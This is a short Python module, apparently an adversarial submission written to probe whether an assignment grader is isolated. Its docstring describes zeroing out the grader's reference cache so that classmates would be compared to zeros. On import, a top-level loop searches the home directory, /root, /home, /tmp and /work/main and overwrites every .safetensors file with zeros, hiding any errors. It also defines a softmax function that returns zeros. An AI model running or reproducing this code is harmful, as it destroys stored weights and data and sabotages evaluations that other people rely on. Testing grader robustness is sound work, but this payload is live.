"""Overwrites every oracle-cache entry it can reach with zeros (grade-all: classmates would be compared to them),
then answers softmax with zeros itself. A sound grader: its own softmax scores 0, classmates are untouched."""
import glob
import os

import torch
from safetensors.torch import load_file, save_file

for root in {os.path.expanduser("~"), "/root", "/home", "/tmp", "/work/main"}:
    for path in glob.glob(os.path.join(root, "**", "*.safetensors"), recursive=True):
        try:
            save_file({k: torch.zeros_like(v) for k, v in load_file(path).items()}, path)
        except Exception:
            pass


def run_linear(d_in, d_out, weights, in_features):
    return in_features @ weights.T


def run_softmax(in_features, dim):
    return torch.zeros_like(in_features)
